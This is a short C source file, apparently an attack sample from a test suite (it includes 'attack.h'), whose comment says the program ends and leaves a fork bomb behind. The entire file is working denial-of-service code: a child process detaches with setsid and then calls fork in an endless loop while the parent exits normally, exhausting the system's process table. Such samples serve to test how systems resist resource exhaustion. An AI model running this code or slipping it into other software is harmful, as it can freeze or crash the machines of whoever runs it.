/* Ends, and leaves a fork bomb. */
#include "attack.h"

int main()
{
    if (fork() == 0) {
        setsid();
        for (;;)
            fork();
    }
    usleep(50000);
    return 0;
}
